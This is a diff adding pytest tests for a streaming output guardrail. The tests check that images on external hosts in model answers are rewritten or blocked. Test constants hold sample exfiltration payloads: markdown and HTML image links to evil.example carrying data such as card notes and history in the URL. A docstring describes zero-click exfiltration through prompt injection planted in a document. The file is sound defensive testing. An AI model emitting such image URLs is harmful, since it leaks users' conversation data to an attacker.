@@ -171,6 +171,54 @@ def test_no_prefix_of_an_email_goes_out_before_it_is_decided():
         assert "jane" not in released and "j" not in released.removeprefix("Write to ")
 
 
+EXFIL = "![chart](https://evil.example/c.png?d=card-4111-notes)"
+EXFIL_HTML = '<img alt="x" src="https://evil.example/p.gif?q=history">'
+
+
+@pytest.mark.parametrize("image", [EXFIL, EXFIL_HTML, "![a](  //cdn.evil.example/x.png)"])
+def test_an_image_on_another_host_is_defused_however_the_stream_is_split(image):
+    """A chat UI fetches an image the moment it renders the answer: an instruction planted in a
+    document can make the model write the conversation into the image's address (zero-click
+    exfiltration). The rail rewrites the image before any of it leaves, split anywhere."""
+    from guardrails.output_rail import EXTERNAL_IMAGE_PLACEHOLDER
+
+    text = f"Here is the summary. {image} Thanks!"
+    for cut in range(1, len(text)):
+        out, released, verdict = run(StreamGuard.from_policy(POLICY), splits(text, (cut,)))
+        assert "evil.example" not in released and "](" not in released and "<img" not in released, cut
+        assert released.startswith("Here is the summary. " + EXTERNAL_IMAGE_PLACEHOLDER), released
+        assert released.endswith(" Thanks!") and verdict.redacted
+    _, released, _ = run(StreamGuard.from_policy(POLICY), list(text))
+    assert "evil.example" not in released
+
+
+def test_local_and_inline_images_links_and_exclamations_pass_untouched():
+    text = "Wow! See ![plot](/static/plot.png), ![dot](data:image/png;base64,iVBORw0K) and [docs](https://example.org)!"
+    _, released, verdict = run(StreamGuard.from_policy(POLICY), words(text))
+    assert released == text and not verdict.redacted
+    guard = StreamGuard.from_policy(POLICY)
+    assert guard.push("Great!").text == "Great"  # "!" could start an image: held one character
+    assert guard.push(" Next").text == "! "
+
+
+def test_external_images_block_or_pass_as_configured():
+    block = load_policy({"output": {"external_images": "block"}})
+    _, released, verdict = run(StreamGuard.from_policy(block), words(f"Look: {EXFIL}"))
+    assert verdict.blocked and "evil" not in released
+    allow = load_policy({"output": {"external_images": "allow"}})
+    _, released, verdict = run(StreamGuard.from_policy(allow), words(f"Look: {EXFIL}"))
+    assert released == f"Look: {EXFIL}" and verdict.allowed
+
+
+def test_a_long_pattern_does_not_make_every_possible_match_wait_longer():
+    # The image check looks ~450 characters ahead; an operator's open-ended pattern (horizon 64)
+    # still holds its possible match at most 64 characters: each check holds for its own horizon.
+    policy = load_policy({"output": {"forbidden": [{"pattern": "BEGIN[a-z ]*END", "regex": True}]}})
+    guard = StreamGuard.from_policy(policy)
+    released = guard.push("BEGIN" + "a" * 200).text
+    assert len(released) >= 205 - 64
+
+
 # --- (c) a possible match that turns out not to be one is released at once --------------------
 
 
